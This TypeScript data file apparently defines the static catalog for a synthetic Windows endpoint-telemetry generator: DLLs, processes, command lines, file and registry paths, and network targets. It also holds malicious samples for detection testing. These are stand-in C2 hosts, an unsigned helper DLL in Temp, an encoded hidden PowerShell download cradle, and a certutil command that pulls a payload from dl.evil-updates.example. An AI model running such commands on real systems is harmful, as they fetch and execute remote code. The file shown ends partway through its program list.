// Static knowledge of a typical estate: which programs exist, where they live, who signs them,
// which modules they load and what kind of events they produce. The generator only combines
// these entries, so all realism tuning happens here.

export type OsFamily = 'windows' | 'osx' | 'linux';

/** How long a process lives and how many segments it accumulates. */
export type Lifetime = 'forever' | 'long' | 'medium' | 'short';

/** Who runs a process: a fixed account or the interactive user of the host. */
export type RunAs = 'SYSTEM' | 'LOCAL SERVICE' | 'NETWORK SERVICE' | 'root' | 'user';

export interface NetTarget {
  domain: string;
  ip: string;
  port: number;
  proto: 6 | 17;
}

export interface ModuleSpec {
  key: string;
  name: string;
  /** full path, lower-case; `{user}` is replaced by the user name */
  path: string;
  os: OsFamily;
  company: string;
  product: string;
  desc: string;
  version: string;
  /** publisher when signed, null when unsigned */
  publisher: string | null;
  size: number;
  is64: boolean;
  exe: boolean;
}

export interface ProgramSpec extends ModuleSpec {
  cmdlines: readonly string[];
  runAs: RunAs;
  life: Lifetime;
  /** module keys loaded at start (besides the exe itself) */
  dlls: readonly string[];
  /** mean events per segment: filemod, regmod, netconn, crossproc */
  rates: readonly [number, number, number, number];
  files?: readonly string[];
  regs?: readonly string[];
  net?: readonly NetTarget[];
  /** program keys this one opens handles to (crossproc) */
  cross?: readonly string[];
  /** marks malware for feeds/watchlists */
  evil?: boolean;
}

const MS = 'Microsoft Corporation';
const MSP = 'Microsoft Windows';
const WINPROD = 'Microsoft\u00ae Windows\u00ae Operating System';
const WINVER = '10.0.19041.1 (WinBuild.160101.0800)';
const S32 = 'c:\\windows\\system32\\';

function dll(name: string, desc: string, size: number, extra: Partial<ModuleSpec> = {}): ModuleSpec {
  return {
    key: name,
    name,
    path: S32 + name,
    os: 'windows',
    company: MS,
    product: WINPROD,
    desc,
    version: WINVER,
    publisher: MSP,
    size,
    is64: true,
    exe: false,
    ...extra,
  };
}

export const WINDOWS_DLLS: readonly ModuleSpec[] = [
  dll('ntdll.dll', 'NT Layer DLL', 2_000_000),
  dll('kernel32.dll', 'Windows NT BASE API Client DLL', 770_000),
  dll('kernelbase.dll', 'Windows NT BASE API Client DLL', 2_900_000),
  dll('msvcrt.dll', 'Windows NT CRT DLL', 630_000),
  dll('ucrtbase.dll', 'Microsoft\u00ae C Runtime Library', 1_200_000),
  dll('advapi32.dll', 'Advanced Windows 32 Base API', 690_000),
  dll('sechost.dll', 'Host for SCM/SDDL/LSA Lookup APIs', 640_000),
  dll('rpcrt4.dll', 'Remote Procedure Call Runtime', 1_150_000),
  dll('bcryptprimitives.dll', 'Windows Cryptographic Primitives Library', 480_000),
  dll('user32.dll', 'Multi-User Windows USER API Client DLL', 1_650_000),
  dll('gdi32.dll', 'GDI Client DLL', 160_000),
  dll('win32u.dll', 'Win32u', 130_000),
  dll('imm32.dll', 'Multi-User Windows IMM32 API Client DLL', 190_000),
  dll('combase.dll', 'Microsoft COM for Windows', 3_400_000),
  dll('ole32.dll', 'Microsoft OLE for Windows', 1_280_000),
  dll('oleaut32.dll', 'OLEAUT32.DLL', 820_000),
  dll('shell32.dll', 'Windows Shell Common Dll', 7_100_000),
  dll('shlwapi.dll', 'Shell Light-weight Utility Library', 330_000),
  dll('uxtheme.dll', 'Microsoft UxTheme Library', 630_000),
  dll('msctf.dll', 'MSCTF Server DLL', 1_400_000),
  dll('windows.storage.dll', 'Microsoft WinRT Storage API', 7_700_000),
  dll('comctl32.dll', 'User Experience Controls Library', 2_400_000, { path: 'c:\\windows\\winsxs\\amd64_microsoft.windows.common-controls_6595b64144ccf1df_6.0.19041.1_none\\comctl32.dll' }),
  dll('ws2_32.dll', 'Windows Socket 2.0 32-Bit DLL', 420_000),
  dll('mswsock.dll', 'Microsoft Windows Sockets 2.0 Service Provider', 420_000),
  dll('dnsapi.dll', 'DNS Client API DLL', 800_000),
  dll('iphlpapi.dll', 'IP Helper API', 230_000),
  dll('winhttp.dll', 'Windows HTTP Services', 1_200_000),
  dll('wininet.dll', 'Internet Extensions for Win32', 4_700_000),
  dll('crypt32.dll', 'Crypto API32', 1_400_000),
  dll('netapi32.dll', 'Net Win32 API DLL', 100_000),
  dll('mpr.dll', 'Multiple Provider Router DLL', 110_000),
  dll('wkscli.dll', 'Workstation Service Client DLL', 90_000),
  dll('srvcli.dll', 'Server Service Client DLL', 130_000),
  dll('netutils.dll', 'Net Win32 API Helpers DLL', 55_000),
  dll('samcli.dll', 'Security Accounts Manager Client DLL', 100_000),
  dll('mscoree.dll', 'Microsoft .NET Runtime Execution Engine', 400_000),
  dll('clr.dll', 'Microsoft .NET Runtime Common Language Runtime - WorkStation', 10_700_000, {
    path: 'c:\\windows\\microsoft.net\\framework64\\v4.0.30319\\clr.dll',
    product: 'Microsoft\u00ae .NET Framework',
    version: '4.8.4515.0 built by: NET48REL1LAST_C',
  }),
  dll('system.management.automation.ni.dll', 'System.Management.Automation', 33_000_000, {
    path: 'c:\\windows\\assembly\\nativeimages_v4.0.30319_64\\system.manaa57fc8cc#\\system.management.automation.ni.dll',
    product: 'Microsoft (R) Windows (R) Operating System',
    version: '10.0.19041.1',
  }),
  dll('amsi.dll', 'Anti-Malware Scan Interface', 90_000),
  dll('wldp.dll', 'Windows Lockdown Policy', 190_000),
  dll('winspool.drv', 'Windows Spooler Driver', 480_000),
  dll('comdlg32.dll', 'Common Dialogs DLL', 620_000),
  dll('propsys.dll', 'Microsoft Property System', 1_000_000),
  dll('wtsapi32.dll', 'Windows Remote Desktop Session Host Server SDK APIs', 70_000),
  dll('chrome_elf.dll', 'Google Chrome', 1_200_000, {
    path: 'c:\\program files\\google\\chrome\\application\\119.0.6045.160\\chrome_elf.dll',
    company: 'Google LLC',
    product: 'Google Chrome',
    version: '119.0.6045.160',
    publisher: 'Google LLC',
  }),
  dll('chrome.dll', 'Google Chrome', 190_000_000, {
    path: 'c:\\program files\\google\\chrome\\application\\119.0.6045.160\\chrome.dll',
    company: 'Google LLC',
    product: 'Google Chrome',
    version: '119.0.6045.160',
    publisher: 'Google LLC',
  }),
  dll('mso.dll', 'Microsoft Office component', 24_000_000, {
    path: 'c:\\program files\\common files\\microsoft shared\\office16\\mso.dll',
    product: 'Microsoft Office',
    version: '16.0.16924.20124',
    publisher: 'Microsoft Corporation',
  }),
  dll('evilhelper.dll', '', 48_128, {
    path: 'c:\\users\\{user}\\appdata\\local\\temp\\evilhelper.dll',
    company: '',
    product: '',
    version: '',
    publisher: null,
    is64: false,
  }),
];

export const BASE_DLLS = ['ntdll.dll', 'kernel32.dll', 'kernelbase.dll', 'msvcrt.dll', 'ucrtbase.dll', 'advapi32.dll', 'sechost.dll', 'rpcrt4.dll', 'bcryptprimitives.dll'] as const;
const GUI = ['user32.dll', 'gdi32.dll', 'win32u.dll', 'imm32.dll', 'combase.dll', 'ole32.dll', 'oleaut32.dll', 'shell32.dll', 'shlwapi.dll', 'uxtheme.dll', 'msctf.dll', 'windows.storage.dll', 'comctl32.dll', 'propsys.dll'];
const NET = ['ws2_32.dll', 'mswsock.dll', 'dnsapi.dll', 'iphlpapi.dll', 'winhttp.dll', 'crypt32.dll'];
const NETTOOL = ['netapi32.dll', 'mpr.dll', 'wkscli.dll', 'srvcli.dll', 'netutils.dll', 'samcli.dll'];
const DOTNET = ['mscoree.dll', 'clr.dll', 'system.management.automation.ni.dll', 'amsi.dll', 'wldp.dll'];
const W = (...sets: (readonly string[])[]) => [...BASE_DLLS, ...sets.flat()];

// Paths for event templates. `{user}` = host user, `{n}` = small number, `{hex}` = random hex.
const USERFILES = [
  'c:\\users\\{user}\\documents\\notes-{n}.txt',
  'c:\\users\\{user}\\documents\\report-q{n}.docx',
  'c:\\users\\{user}\\appdata\\local\\temp\\~df{hex}.tmp',
  'c:\\users\\{user}\\appdata\\roaming\\microsoft\\windows\\recent\\notes-{n}.lnk',
];
/** cmd.exe: the user's files, and now and then an installer copied from a share into %TEMP% (`{installer}`, see file-writes.ts). */
const CMDFILES = [...USERFILES, 'c:\\users\\{user}\\appdata\\local\\temp\\{installer}'];
const SYSFILES = [
  'c:\\windows\\system32\\logfiles\\wmi\\rtbackup\\etwrtsvc{n}.etl',
  'c:\\windows\\temp\\{hex}.tmp',
  'c:\\programdata\\microsoft\\windows\\wer\\temp\\{hex}.tmp',
  'c:\\windows\\serviceprofiles\\localservice\\appdata\\local\\lastalive{n}.dat',
  'c:\\programdata\\microsoft\\windows\\apprepository\\statechange\\racmetadata.dat',
];
const USERREGS = [
  '\\registry\\user\\{sid}\\software\\microsoft\\windows\\currentversion\\explorer\\recentdocs\\.txt',
  '\\registry\\user\\{sid}\\software\\microsoft\\windows\\currentversion\\explorer\\userassist\\{hex}\\count',
  '\\registry\\user\\{sid}\\software\\microsoft\\windows\\shell\\bags\\{n}\\shell',
];
const SYSREGS = [
  '\\registry\\machine\\system\\controlset001\\services\\bam\\state\\usersettings\\{sid}',
  '\\registry\\machine\\software\\microsoft\\windows nt\\currentversion\\notifications\\data',
  '\\registry\\machine\\system\\controlset001\\services\\tcpip\\parameters\\interfaces\\{hex}',
  '\\registry\\machine\\software\\microsoft\\windows\\currentversion\\wintrust\\trust providers\\software publishing',
];
const MSNET: NetTarget[] = [
  { domain: 'settings-win.data.microsoft.com', ip: '20.42.65.92', port: 443, proto: 6 },
  { domain: 'v10.events.data.microsoft.com', ip: '13.89.179.10', port: 443, proto: 6 },
  { domain: 'ctldl.windowsupdate.com', ip: '93.184.221.240', port: 80, proto: 6 },
  { domain: 'login.live.com', ip: '20.190.159.4', port: 443, proto: 6 },
  { domain: '', ip: '10.0.0.2', port: 53, proto: 17 },
];
const WEBNET: NetTarget[] = [
  { domain: 'www.google.com', ip: '142.250.72.196', port: 443, proto: 6 },
  { domain: 'clients2.google.com', ip: '142.250.72.206', port: 443, proto: 6 },
  { domain: 'github.com', ip: '140.82.112.3', port: 443, proto: 6 },
  { domain: 'www.wikipedia.org', ip: '208.80.154.224', port: 443, proto: 6 },
  { domain: 'outlook.office365.com', ip: '52.96.165.18', port: 443, proto: 6 },
  { domain: 'cdn.jsdelivr.net', ip: '151.101.1.229', port: 443, proto: 6 },
];
/** C2 infrastructure of the "evil" programs; reused as abuse.ch-like feed IOCs. */
export const EVIL_NET: NetTarget[] = [
  { domain: 'update-check.badcdn.example', ip: '185.220.101.47', port: 443, proto: 6 },
  { domain: 'pastebin-mirror.example', ip: '45.137.21.9', port: 8080, proto: 6 },
  { domain: 'dl.evil-updates.example', ip: '91.215.85.142', port: 80, proto: 6 },
];

type P = Omit<ProgramSpec, 'os' | 'company' | 'product' | 'version' | 'publisher' | 'is64' | 'exe'> &
  Partial<Pick<ProgramSpec, 'os' | 'company' | 'product' | 'version' | 'publisher' | 'is64' | 'exe'>>;

function prog(p: P): ProgramSpec {
  return {
    os: 'windows',
    company: MS,
    product: WINPROD,
    version: WINVER,
    publisher: MSP,
    is64: true,
    exe: true,
    ...p,
  };
}

export const WINDOWS_PROGRAMS: readonly ProgramSpec[] = [
  prog({ key: 'system', name: 'ntoskrnl.exe', path: S32 + 'ntoskrnl.exe', desc: 'NT Kernel & System', size: 10_900_000, cmdlines: ['System'], runAs: 'SYSTEM', life: 'forever', dlls: [], rates: [3, 1, 0.2, 0] , files: SYSFILES, regs: SYSREGS }),
  prog({ key: 'smss', name: 'smss.exe', path: S32 + 'smss.exe', desc: 'Windows Session Manager', size: 151_000, cmdlines: ['\\SystemRoot\\System32\\smss.exe'], runAs: 'SYSTEM', life: 'forever', dlls: ['ntdll.dll'], rates: [0.2, 0.5, 0, 0], regs: SYSREGS }),
  prog({ key: 'csrss', name: 'csrss.exe', path: S32 + 'csrss.exe', desc: 'Client Server Runtime Process', size: 17_000, cmdlines: ['%SystemRoot%\\system32\\csrss.exe ObjectDirectory=\\Windows SharedSection=1024,20480,768 Windows=On SubSystemType=Windows ServerDll=basesrv,1 ServerDll=winsrv:UserServerDllInitialization,3 ServerDll=sxssrv,4 ProfileControl=Off MaxRequestThreads=16'], runAs: 'SYSTEM', life: 'forever', dlls: ['ntdll.dll', 'kernelbase.dll', 'rpcrt4.dll'], rates: [0, 0.2, 0, 1] }),
  prog({ key: 'wininit', name: 'wininit.exe', path: S32 + 'wininit.exe', desc: 'Windows Start-Up Application', size: 420_000, cmdlines: ['wininit.exe'], runAs: 'SYSTEM', life: 'forever', dlls: W(['user32.dll', 'combase.dll']), rates: [0.2, 0.5, 0, 0], regs: SYSREGS }),
  prog({ key: 'winlogon', name: 'winlogon.exe', path: S32 + 'winlogon.exe', desc: 'Windows Logon Application', size: 900_000, cmdlines: ['winlogon.exe'], runAs: 'SYSTEM', life: 'forever', dlls: W(['user32.dll', 'combase.dll', 'uxtheme.dll']), rates: [0.3, 1, 0, 0.3], regs: SYSREGS }),
  prog({ key: 'services', name: 'services.exe', path: S32 + 'services.exe', desc: 'Services and Controller app', size: 720_000, cmdlines: ['C:\\Windows\\system32\\services.exe'], runAs: 'SYSTEM', life: 'forever', dlls: W(['combase.dll']), rates: [0.5, 3, 0, 0.5], regs: SYSREGS }),
  prog({ key: 'lsass', name: 'lsass.exe', path: S32 + 'lsass.exe', desc: 'Local Security Authority Process', size: 57_000, cmdlines: ['C:\\Windows\\system32\\lsass.exe'], runAs: 'SYSTEM', life: 'forever', dlls: W(NET, ['crypt32.dll', 'samcli.dll']), rates: [0.5, 2, 1, 0], regs: SYSREGS, net: MSNET }),
  prog({ key: 'svchost', name: 'svchost.exe', path: S32 + 'svchost.exe', desc: 'Host Process for Windows Services', size: 55_000,
    cmdlines: ['C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p', 'C:\\Windows\\system32\\svchost.exe -k RPCSS -p', 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p', 'C:\\Windows\\System32\\svchost.exe -k LocalServiceNetworkRestricted -p', 'C:\\Windows\\system32\\svchost.exe -k NetworkService -p', 'C:\\Windows\\system32\\svchost.exe -k LocalService -p', 'C:\\Windows\\System32\\svchost.exe -k utcsvc -p', 'C:\\Windows\\system32\\svchost.exe -k UnistackSvcGroup'],
    runAs: 'SYSTEM', life: 'forever', dlls: W(NET, ['combase.dll', 'ole32.dll']), rates: [2, 4, 1.5, 0.3], files: SYSFILES, regs: SYSREGS, net: MSNET, cross: ['lsass', 'services'] }),
  prog({ key: 'spoolsv', name: 'spoolsv.exe', path: S32 + 'spoolsv.exe', desc: 'Spooler SubSystem App', size: 830_000, cmdlines: ['C:\\Windows\\System32\\spoolsv.exe'], runAs: 'SYSTEM', life: 'forever', dlls: W(NET, ['winspool.drv']), rates: [0.3, 0.5, 0.1, 0], files: SYSFILES, regs: SYSREGS }),
  prog({ key: 'msmpeng', name: 'msmpeng.exe', path: 'c:\\programdata\\microsoft\\windows defender\\platform\\4.18.23110.3-0\\msmpeng.exe', desc: 'Antimalware Service Executable', product: 'Microsoft\u00ae Windows\u00ae Operating System', version: '4.18.23110.3 (WinBuild.160101.0800)', size: 133_000, cmdlines: ['"C:\\ProgramData\\Microsoft\\Windows Defender\\platform\\4.18.23110.3-0\\MsMpEng.exe"'], runAs: 'SYSTEM', life: 'forever', dlls: W(NET, ['crypt32.dll']), rates: [4, 1, 0.5, 2], files: SYSFILES, regs: SYSREGS, net: MSNET, cross: ['explorer', 'svchost'] }),
  prog({ key: 'searchindexer', name: 'searchindexer.exe', path: S32 + 'searchindexer.exe', desc: 'Microsoft Windows Search Indexer', size: 1_000_000, cmdlines: ['C:\\Windows\\system32\\SearchIndexer.exe /Embedding'], runAs: 'SYSTEM', life: 'forever', dlls: W(['combase.dll', 'ole32.dll']), rates: [3, 1, 0, 0], files: [...SYSFILES, ...USERFILES], regs: SYSREGS }),
  prog({ key: 'dwm', name: 'dwm.exe', path: S32 + 'dwm.exe', desc: 'Desktop Window Manager', size: 95_000, cmdlines: ['"dwm.exe"'], runAs: 'user', life: 'forever', dlls: W(GUI), rates: [0, 0.3, 0, 0] }),
  prog({ key: 'userinit', name: 'userinit.exe', path: S32 + 'userinit.exe', desc: 'Userinit Logon Application', size: 30_000, cmdlines: ['C:\\Windows\\system32\\userinit.exe'], runAs: 'user', life: 'short', dlls: W(['user32.dll', 'shell32.dll']), rates: [0, 1, 0, 0], regs: USERREGS }),
  prog({ key: 'explorer', name: 'explorer.exe', path: 'c:\\windows\\explorer.exe', desc: 'Windows Explorer', size: 4_800_000, cmdlines: ['C:\\Windows\\Explorer.EXE'], runAs: 'user', life: 'forever', dlls: W(GUI, NET), rates: [3, 6, 0.5, 0.5], files: USERFILES, regs: USERREGS, net: MSNET, cross: ['svchost', 'dwm'] }),
  prog({ key: 'sihost', name: 'sihost.exe', path: S32 + 'sihost.exe', desc: 'Shell Infrastructure Host', size: 110_000, cmdlines: ['sihost.exe'], runAs: 'user', life: 'forever', dlls: W(GUI), rates: [0.5, 1, 0, 0], regs: USERREGS }),
  prog({ key: 'taskhostw', name: 'taskhostw.exe', path: S32 + 'taskhostw.exe', desc: 'Host Process for Windows Tasks', size: 100_000, cmdlines: ['taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}', 'taskhostw.exe Install $(Arg0)'], runAs: 'user', life: 'medium', dlls: W(['combase.dll']), rates: [0.5, 1, 0, 0], files: SYSFILES, regs: USERREGS }),
  prog({ key: 'runtimebroker', name: 'runtimebroker.exe', path: S32 + 'runtimebroker.exe', desc: 'Runtime Broker', size: 120_000, cmdlines: ['C:\\Windows\\System32\\RuntimeBroker.exe -Embedding'], runAs: 'user', life: 'long', dlls: W(['combase.dll', 'windows.storage.dll']), rates: [0.5, 2, 0, 0], regs: USERREGS }),
  prog({ key: 'wmiprvse', name: 'wmiprvse.exe', path: S32 + 'wbem\\wmiprvse.exe', desc: 'WMI Provider Host', size: 500_000, cmdlines: ['C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding', 'C:\\Windows\\system32\\wbem\\wmiprvse.exe -Embedding'], runAs: 'NETWORK SERVICE', life: 'medium', dlls: W(['combase.dll', 'ole32.dll', 'oleaut32.dll']), rates: [0.3, 2, 0, 0.5], regs: SYSREGS, cross: ['svchost'] }),
  prog({ key: 'dllhost', name: 'dllhost.exe', path: S32 + 'dllhost.exe', desc: 'COM Surrogate', size: 21_000, cmdlines: ['C:\\Windows\\system32\\DllHost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}', 'C:\\Windows\\system32\\DllHost.exe /Processid:{973D20D7-562D-44B9-B70B-5A0F49CCDF3F}'], runAs: 'user', life: 'short', dlls: W(['combase.dll', 'ole32.dll']), rates: [0.5, 1, 0, 0], files: USERFILES, regs: USERREGS }),
  prog({ key: 'conhost', name: 'conhost.exe', path: S32 + 'conhost.exe', desc: 'Console Window Host', size: 860_000, cmdlines: ['\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1'], runAs: 'user', life: 'medium', dlls: W(['user32.dll', 'gdi32.dll', 'combase.dll']), rates: [0, 0.2, 0, 0] }),
  prog({ key: 'cmd', name: 'cmd.exe', path: S32 + 'cmd.exe', desc: 'Windows Command Processor', size: 290_000, cmdlines: ['"C:\\Windows\\system32\\cmd.exe" ', 'C:\\Windows\\system32\\cmd.exe /c "C:\\scripts\\logon.bat"', 'cmd.exe /c ipconfig /all > c:\\temp\\ip.txt'], runAs: 'user', life: 'medium', dlls: W(['user32.dll', 'shlwapi.dll']), rates: [1, 0.5, 0, 0], files: CMDFILES, regs: USERREGS }),
  prog({ key: 'powershell', name: 'powershell.exe', path: S32 + 'windowspowershell\\v1.0\\powershell.exe', desc: 'Windows PowerShell', size: 450_000,
    cmdlines: ['"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" ', 'powershell.exe -ExecutionPolicy Bypass -File C:\\scripts\\inventory.ps1', 'powershell.exe -NoProfile -Command "Get-Service | Where-Object {$_.Status -eq \'Running\'}"', 'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA'],
    runAs: 'user', life: 'medium', dlls: W(GUI, NET, DOTNET), rates: [3, 2, 1, 0.3], files: USERFILES, regs: USERREGS, net: WEBNET, cross: ['lsass'] }),
  prog({ key: 'notepad', name: 'notepad.exe', path: S32 + 'notepad.exe', desc: 'Notepad', size: 201_216, cmdlines: ['"C:\\Windows\\system32\\notepad.exe" ', '"C:\\Windows\\system32\\NOTEPAD.EXE" C:\\Users\\{user}\\Documents\\notes-{n}.txt', 'notepad.exe C:\\Windows\\System32\\drivers\\etc\\hosts'], runAs: 'user', life: 'medium', dlls: W(GUI, ['comdlg32.dll', 'winspool.drv']), rates: [2, 1, 0, 0], files: USERFILES, regs: USERREGS }),
  prog({ key: 'mspaint', name: 'mspaint.exe', path: S32 + 'mspaint.exe', desc: 'Paint', size: 6_600_000, cmdlines: ['"C:\\Windows\\system32\\mspaint.exe" '], runAs: 'user', life: 'medium', dlls: W(GUI, ['comdlg32.dll']), rates: [1, 1, 0, 0], files: USERFILES, regs: USERREGS }),
  prog({ key: 'calc', name: 'calc.exe', path: S32 + 'calc.exe', desc: 'Windows Calculator', size: 27_000, cmdlines: ['"C:\\Windows\\system32\\calc.exe" '], runAs: 'user', life: 'short', dlls: W(GUI), rates: [0, 0.5, 0, 0], regs: USERREGS }),
  prog({ key: 'mstsc', name: 'mstsc.exe', path: S32 + 'mstsc.exe', desc: 'Remote Desktop Connection', size: 1_300_000, cmdlines: ['"C:\\Windows\\system32\\mstsc.exe" /v:fileserver01'], runAs: 'user', life: 'medium', dlls: W(GUI, NET), rates: [0.5, 1, 2, 0], regs: USERREGS, net: [{ domain: 'fileserver01.corp.example', ip: '10.0.1.20', port: 3389, proto: 6 }] }),
  prog({ key: 'net', name: 'net.exe', path: S32 + 'net.exe', desc: 'Net Command', size: 57_000, cmdlines: ['net use', 'net user', 'net localgroup administrators', 'net view \\\\fileserver01', 'net use Z: \\\\fileserver01\\share', 'net start'], runAs: 'user', life: 'short', dlls: W(NETTOOL), rates: [0, 0.2, 0.3, 0], net: [{ domain: 'fileserver01.corp.example', ip: '10.0.1.20', port: 445, proto: 6 }] }),
  prog({ key: 'net1', name: 'net1.exe', path: S32 + 'net1.exe', desc: 'Net Command', size: 170_000, cmdlines: ['C:\\Windows\\system32\\net1 use', 'C:\\Windows\\system32\\net1 user'], runAs: 'user', life: 'short', dlls: W(NETTOOL), rates: [0, 0.2, 0.3, 0] }),
  prog({ key: 'ipconfig', name: 'ipconfig.exe', path: S32 + 'ipconfig.exe', desc: 'IP Configuration Utility', size: 35_000, cmdlines: ['ipconfig /all', 'ipconfig', 'ipconfig /flushdns'], runAs: 'user', life: 'short', dlls: W(['iphlpapi.dll', 'dnsapi.dll']), rates: [0, 0, 0, 0] }),
  prog({ key: 'whoami', name: 'whoami.exe', path: S32 + 'whoami.exe', desc: 'whoami - displays logged on user information', size: 74_000, cmdlines: ['whoami', 'whoami /priv', 'whoami /groups'], runAs: 'user', life: 'short', dlls: W([]), rates: [0, 0, 0, 0] }),
  prog({ key: 'ping', name: 'ping.exe', path: S32 + 'ping.exe', desc: 'TCP/IP Ping Command', size: 21_000, cmdlines: ['ping 8.8.8.8', 'ping -n 4 fileserver01', 'ping.exe -t 127.0.0.1'], runAs: 'user', life: 'short', dlls: W(['iphlpapi.dll', 'ws2_32.dll']), rates: [0, 0, 0.5, 0] }),
  prog({ key: 'tasklist', name: 'tasklist.exe', path: S32 + 'tasklist.exe', desc: 'Lists the current running tasks.', size: 80_000, cmdlines: ['tasklist', 'tasklist /svc', 'tasklist /v'], runAs: 'user', life: 'short', dlls: W(['oleaut32.dll']), rates: [0, 0, 0, 1], cross: ['svchost', 'explorer', 'lsass'] }),
  prog({ key: 'systeminfo', name: 'systeminfo.exe', path: S32 + 'systeminfo.exe', desc: 'Displays system information', size: 95_000, cmdlines: ['systeminfo'], runAs: 'user', life: 'short', dlls: W(['oleaut32.dll']), rates: [0, 0.5, 0, 0] }),
  prog({ key: 'nslookup', name: 'nslookup.exe', path: S32 + 'nslookup.exe', desc: 'nslookup', size: 87_000, cmdlines: ['nslookup www.google.com', 'nslookup fileserver01'], runAs: 'user', life: 'short', dlls: W(['ws2_32.dll']), rates: [0, 0, 1, 0], net: [{ domain: '', ip: '10.0.0.2', port: 53, proto: 17 }] }),
  prog({ key: 'reg', name: 'reg.exe', path: S32 + 'reg.exe', desc: 'Registry Console Tool', size: 72_000, cmdlines: ['reg query HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run', 'reg add HKCU\\Software\\Demo /v Enabled /t REG_DWORD /d 1 /f'], runAs: 'user', life: 'short', dlls: W([]), rates: [0, 1, 0, 0], regs: USERREGS }),
  prog({ key: 'sc', name: 'sc.exe', path: S32 + 'sc.exe', desc: 'Service Control Manager Configuration Tool', size: 68_000, cmdlines: ['sc query', 'sc qc wuauserv', 'sc config spooler start= demand'], runAs: 'user', life: 'short', dlls: W([]), rates: [0, 0.2, 0, 0] }),
  prog({ key: 'netstat', name: 'netstat.exe', path: S32 + 'netstat.exe', desc: 'TCP/IP Netstat Command', size: 40_000, cmdlines: ['netstat -ano', 'netstat -an'], runAs: 'user', life: 'short', dlls: W(['iphlpapi.dll']), rates: [0, 0, 0, 0] }),
  prog({ key: 'findstr', name: 'findstr.exe', path: S32 + 'findstr.exe', desc: 'Find String (QGREP) Utility', size: 36_000, cmdlines: ['findstr /i error c:\\temp\\log.txt', 'findstr LISTENING'], runAs: 'user', life: 'short', dlls: W([]), rates: [0, 0, 0, 0] }),
  prog({ key: 'schtasks', name: 'schtasks.exe', path: S32 + 'schtasks.exe', desc: 'Task Scheduler Configuration Tool', size: 235_000, cmdlines: ['schtasks /query /fo LIST', 'schtasks /run /tn "\\Microsoft\\Windows\\Defrag\\ScheduledDefrag"'], runAs: 'SYSTEM', life: 'short', dlls: W(['combase.dll', 'oleaut32.dll']), rates: [0, 0.5, 0, 0] }),
  prog({ key: 'gpupdate', name: 'gpupdate.exe', path: S32 + 'gpupdate.exe', desc: 'Microsoft\u00ae Windows Group Policy Update Utility', size: 30_000, cmdlines: ['gpupdate /force', 'gpupdate.exe /target:computer'], runAs: 'SYSTEM', life: 'short', dlls: W(['netapi32.dll']), rates: [0, 2, 0.5, 0], regs: SYSREGS }),
  prog({ key: 'rundll32', name: 'rundll32.exe', path: S32 + 'rundll32.exe', desc: 'Windows host process (Rundll32)', size: 71_000, cmdlines: ['C:\\Windows\\system32\\rundll32.exe C:\\Windows\\system32\\inetcpl.cpl,ClearMyTracksByProcess Flags:65800 WinX:0 WinY:0 IEFrame:0000000000000000', 'rundll32.exe shell32.dll,Control_RunDLL'], runAs: 'user', life: 'short', dlls: W(GUI), rates: [1, 1, 0, 0], files: USERFILES, regs: USERREGS }),
  prog({ key: 'certutil', name: 'certutil.exe', path: S32 + 'certutil.exe', desc: 'CertUtil.exe', size: 1_400_000, cmdlines: ['certutil -urlcache -split -f http://dl.evil-updates.example/payload.bin c:\\users\\public\\p.bin', 'certutil -hashfile c:\\temp\\setup.exe SHA256'], runAs: 'user', life: 'short', dlls: W(NET, ['crypt32.dll']), rates: [1, 0.3, 0.5, 0], files: USERFILES, net: [EVIL_NET[2]] }),
  prog({ key: 'chrome', name: 'chrome.exe', path: 'c:\\program files\\google\\chrome\\application\\chrome.exe', company: 'Google LLC', product: 'Google Chrome', desc: 'Google Chrome', version: '119.0.6045.160', publisher: 'Google LLC', size: 2_900_000,
    cmdlines: ['"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" ', '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --display-capture-permissions-policy-allowed --lang=en-US --renderer-client-id={n} --mojo-platform-channel-handle=3616 /prefetch:1', '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US --service-sandbox-type=none /prefetch:8'],
    runAs: 'user', life: 'long', dlls: W(GUI, NET, ['chrome_elf.dll', 'chrome.dll']), rates: [6, 2, 4, 0.5], files: ['c:\\users\\{user}\\appdata\\local\\google\\chrome\\user data\\default\\cache\\cache_data\\f_{hex}', 'c:\\users\\{user}\\appdata\\local\\google\\chrome\\user data\\default\\history', 'c:\\users\\{user}\\downloads\\setup-{n}.exe'], regs: USERREGS, net: WEBNET }),
  prog({ key: 'msedge', name: 'msedge.exe', path: 'c:\\program files (x86)\\microsoft\\edge\\application\\msedge.exe', product: 'Microsoft Edge', desc: 'Microsoft Edge', version: '119.0.2151.72', publisher: 'Microsoft Corporation', size: 3_900_000, cmdlines: ['"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe" --no-startup-window --win-session-start', '"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe" '], runAs: 'user', life: 'long', dlls: W(GUI, NET), rates: [4, 2, 3, 0.3], files: ['c:\\users\\{user}\\appdata\\local\\microsoft\\edge\\user data\\default\\cache\\cache_data\\f_{hex}'], regs: USERREGS, net: WEBNET }),
  prog({ key: 'outlook', name: 'outlook.exe', path: 'c:\\program files\\microsoft office\\root\\office16\\outlook.exe', product: 'Microsoft Outlook', desc: 'Microsoft Outlook', version: '16.0.16924.20124', publisher: 'Microsoft Corporation', size: 41_000_000, cmdlines: ['"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE" '], runAs: 'user', life: 'long', dlls: W(GUI, NET, ['mso.dll']), rates: [5, 3, 3, 0], files: ['c:\\users\\{user}\\appdata\\local\\microsoft\\outlook\\{user}@corp.example.ost', 'c:\\users\\{user}\\appdata\\local\\microsoft\\windows\\inetcache\\content.outlook\\{hex}\\invoice-{n}.pdf'], regs: USERREGS, net: [WEBNET[4]] }),
